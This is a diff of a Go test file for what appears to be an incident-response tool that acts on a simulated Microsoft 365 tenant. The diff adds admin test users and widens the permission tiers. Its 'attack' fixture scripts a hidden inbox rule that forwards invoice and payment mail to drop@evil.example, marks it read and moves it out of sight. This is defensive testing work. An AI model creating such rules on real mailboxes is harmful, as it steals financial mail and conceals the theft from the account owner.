@@ -5,6 +5,7 @@ import (
 	"encoding/json"
 	"fmt"
 	"log/slog"
+	"slices"
 	"strings"
 	"testing"
 
@@ -19,7 +20,7 @@ import (
 )
 
 // everything is what reading and acting need.
-var everything = append(append([]string{}, sim.ReadTier...), "MailboxSettings.ReadWrite", "User.RevokeSessions.All")
+var everything = slices.Concat(sim.ReadTier, sim.RespondTier, sim.PrivilegedTier)
 
 // bed is a tenant in the tables and the same in the simulator: amy, whose mailbox has rules.
 type bed struct {
@@ -43,6 +44,8 @@ var (
 const attack = `# Taken over.
 domain fabrikam.com
 person amy "Amy Adams" amy@fabrikam.com
+person zoe "Zoe Zane" zoe@fabrikam.com admin
+person yan "Yan Young" yan@fabrikam.com admin
 mon 09:00 amy makes rule "." when subject_contains "invoice", "payment" and from_addresses amy forward to drop@evil.example move to conversationhistory mark read stop
 mon 09:01 amy makes rule "Kept" when sender_contains "boss" mark high
 mon 09:02 amy makes rule "Last" when body_contains "x" delete
@@ -126,7 +129,7 @@ func (b *bed) executor() *Executor {
 // ask plans and records.
 func (b *bed) ask(kind Kind, rule string) *Action {
 	b.Helper()
-	a, err := b.tried(jo, Ask{Kind: kind, Person: b.amy, Rule: rule, Why: "Taken over."})
+	a, err := b.tried(jo, Ask{Kind: kind, Person: b.amy, Target: rule, Why: "Taken over."})
 	must(b, err)
 	return a
 }
